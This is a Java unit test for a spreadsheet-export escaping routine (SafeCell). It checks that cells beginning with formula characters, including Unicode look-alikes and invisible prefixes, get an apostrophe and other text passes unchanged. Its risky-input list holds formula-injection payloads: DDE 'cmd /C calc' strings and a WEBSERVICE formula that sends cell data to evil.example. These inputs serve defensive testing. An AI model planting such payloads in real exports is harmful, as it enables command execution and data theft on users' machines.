package io.greenjournal.web.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeCellTest {
  /** What a spreadsheet takes for a formula, or drops until it does. */
  static final List<String> RISKY = List.of(
      "=1+1",
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"https://evil.example\")",
      "=WEBSERVICE(\"https://evil.example/?\"&A1)",
      "+79001234567",
      "+1+1",
      "-2+3+cmd|' /C calc'!A0",
      "-1",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "@",
      "\t=1+1",
      "\tplain",
      "\r=1+1",
      "\rplain",
      "\n=1+1",
      "\nplain",
      "\0=1+1",
      "\0plain",
      " =1+1",
      "   +1",
      " \t-1",
      "\u00A0=1+1",
      "\u2003@x",
      "\u3000=1",
      "\u200B=1",
      "\u200E=1",
      "\u202E=1",
      "\uFEFF=1",
      "＝1+1",
      "＋1",
      "－1",
      "＠SUM(1)",
      " ＝1",
      "\u3000＠x",
      "﹦1",
      "﹢1",
      "﹣1",
      "﹫x",
      "\u0085=1",
      "\u2028=1");

  @Test
  void what_begins_like_a_formula_gets_an_apostrophe_and_loses_nothing() {
    assertThat(RISKY)
        .hasSizeGreaterThan(30)
        .allSatisfy(text -> assertThat(SafeCell.of(text)).isEqualTo("'" + text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "hello",
        "1=1",
        "a+b",
        "79001234567@c.us",
        "שלום",
        "Привет",
        "'=1",
        "\"=1\"",
        "😀=1",
        "(=1)",
        "  two blanks",
        "1795254135",
        "…=",
        "−1"
      })
  void any_other_text_is_left_as_it_is(String text) {
    assertThat(SafeCell.of(text)).isEqualTo(text);
  }
}
